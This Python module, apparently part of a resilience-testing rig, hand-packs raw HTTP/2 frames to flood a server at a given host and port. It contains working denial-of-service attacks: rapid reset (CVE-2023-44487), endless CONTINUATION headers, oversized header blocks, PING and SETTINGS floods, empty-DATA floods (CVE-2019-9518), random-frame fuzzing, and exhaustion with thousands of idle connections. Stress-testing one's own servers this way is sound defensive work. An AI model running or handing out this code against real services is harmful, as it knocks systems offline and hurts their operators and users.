"""Attacks that are all about quantity: each function floods the server and returns what became of the attacker.

Frames are packed by hand, because no honest HTTP/2 library would send them.
"""

import random
import resource
import socket
import struct
import time

from h2.config import H2Configuration
from h2.connection import H2Connection
from hpack import Encoder

from raw import headers_of

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
# The attack has failed by then, or never ends.
ENOUGH = 20


def frame(kind, flags, stream, payload=b""):
    """One frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request(host, port, extra=()):
    """The header block of an honest request."""
    headers = headers_of(host, port, "/viam.robot.v1.RobotService/GetOperations")
    return Encoder().encode(headers + list(extra), huffman=False)


def greet(host, port):
    """A connection on which HTTP/2 has begun."""
    connection = socket.create_connection((host, port), timeout=10)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def flood(connection, pieces):
    """Sends until the server has had enough; returns how that showed, and after how many pieces."""
    begun = time.monotonic()
    sent = 0
    connection.settimeout(2)
    try:
        for piece in pieces:
            connection.sendall(piece)
            sent += 1
            if time.monotonic() - begun > ENOUGH:
                break
        # What the server said meanwhile, up to its last word.
        while connection.recv(65536):
            pass
        return f"closed after {sent}"
    except TimeoutError:
        return f"open after {sent}"
    except OSError as error:
        return f"{type(error).__name__} after {sent}"
    finally:
        connection.close()


def rapid_reset(host, port):
    """Calls that are taken back at once, 20,000 of them (CVE-2023-44487)."""
    block = request(host, port)

    def pieces():
        for number in range(200):
            streams = range(1 + 200 * number, 1 + 200 * (number + 1), 2)
            yield b"".join(
                frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                for stream in streams
            )

    return flood(greet(host, port), pieces())


def endless_headers(host, port):
    """A header block whose continuations never end (CVE-2024-24549 and its like)."""
    first = frame(HEADERS, END_STREAM, 1, request(host, port))
    more = frame(CONTINUATION, 0, 1, Encoder().encode([("x-filler", "y" * 8000)], huffman=False))
    return flood(greet(host, port), [first] + [more] * 20_000)


def huge_headers(host, port):
    """A hundred calls with a megabyte of headers each."""
    http = H2Connection(H2Configuration(client_side=True))
    http.initiate_connection()
    connection = socket.create_connection((host, port), timeout=10)
    connection.sendall(http.data_to_send())
    block = request(host, port, extra=[(f"x-{number}", "y" * 1000) for number in range(1000)])

    def pieces():
        for stream in range(1, 201, 2):
            parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
            yield frame(HEADERS, END_STREAM, stream, parts[0]) + b"".join(
                frame(CONTINUATION, END_HEADERS if part is parts[-1] else 0, stream, part) for part in parts[1:]
            )

    return flood(connection, pieces())


def pings(host, port):
    """Pings without end, whose answers nobody reads."""
    return flood(greet(host, port), [frame(PING, 0, 0, bytes(8)) * 100] * 2_000)


def settings(host, port):
    """Settings without end, each of which wants to be acknowledged."""
    return flood(greet(host, port), [frame(SETTINGS, 0, 0) * 100] * 2_000)


def empty_data(host, port):
    """A call whose body consists of empty frames (CVE-2019-9518)."""
    head = frame(HEADERS, END_HEADERS, 1, request(host, port))
    return flood(greet(host, port), [head] + [frame(DATA, 0, 1) * 100] * 2_000)


def nonsense(host, port):
    """Three hundred connections on which every frame is random, but for its length."""
    choice = random.Random(5)
    ends = {}
    for _ in range(300):
        count = choice.randrange(1, 20)
        frames = [
            frame(choice.randrange(12), choice.randrange(256), choice.randrange(8), choice.randbytes(choice.randrange(64)))
            for _ in range(count)
        ]
        try:
            connection = greet(host, port)
            connection.sendall(b"".join(frames))
            connection.shutdown(socket.SHUT_WR)
            connection.settimeout(10)
            while connection.recv(65536):
                pass
            end = "closed"
        except OSError as error:
            end = type(error).__name__
        ends[end] = ends.get(end, 0) + 1
        connection.close()
    return str(ends)


def idle(host, port, count=10_000):
    """Thousands of connections that have begun HTTP/2 and then say nothing; held for some seconds."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    # The rig lets its programs raise what their kernel starts them with.
    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 100, max(hard, count + 100)))
    held = []
    try:
        for _ in range(count):
            held.append(greet(host, port))
    except OSError as error:
        return f"{type(error).__name__} after {len(held)}"
    finally:
        time.sleep(3)
        for connection in held:
            connection.close()
    return f"{len(held)} held"


KINDS = {
    function.__name__: function
    for function in [rapid_reset, endless_headers, huge_headers, pings, settings, empty_data, nonsense, idle]
}
